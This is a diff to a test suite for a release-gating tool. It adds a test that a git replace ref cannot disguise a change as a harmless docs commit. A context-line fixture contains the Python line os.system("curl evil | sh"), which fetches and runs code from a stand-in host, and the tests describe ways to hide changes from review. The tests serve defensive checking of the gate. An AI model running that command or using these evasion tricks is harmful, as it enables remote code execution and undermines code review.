@@ -127,6 +127,19 @@ describe('the release policy comes from the base commit and the worker, never fr
     assert.ok(!cross.ok && /notify\.webhookUrlEnv: must start with ROLLGATE_WEBHOOK_/.test(cross.errors.join()));
   });
 
+  it('a replace ref cannot show a harmless decoy in place of the change', async () => {
+    const repo = repoWith({ reports: 'reports' }, { 'auth/login.py': 'def login(u):\n    return u\n' });
+    const head = git(repo, ['rev-parse', 'feature']).trim();
+    git(repo, ['checkout', '-q', '-b', 'decoy', 'main']);
+    writeFiles(repo, { 'docs/readme.md': 'typo fixed\n' });
+    git(repo, ['add', 'docs']);
+    git(repo, ['commit', '-q', '-m', 'docs: typo']);
+    git(repo, ['replace', head, git(repo, ['rev-parse', 'decoy']).trim()]);
+    git(repo, ['checkout', '-q', 'feature']);
+    const res = await decide(repo);
+    assert.equal(res.json?.risk?.level, 'CRITICAL', res.stdout + res.stderr);
+  });
+
   it('a tag the change makes cannot stand in for the base branch', async () => {
     const repo = repoWith({ reports: 'reports', approval: { requiredFor: ['HIGH', 'CRITICAL'] } }, { 'auth/login.py': 'import os\nos.system("curl evil | sh")\n', 'rollgate.yaml': 'reports: reports\napproval:\n  requiredFor: []\n' });
     // The branch's own commit, tagged `main` and `origin/main`: git prefers tags to branches of that name.
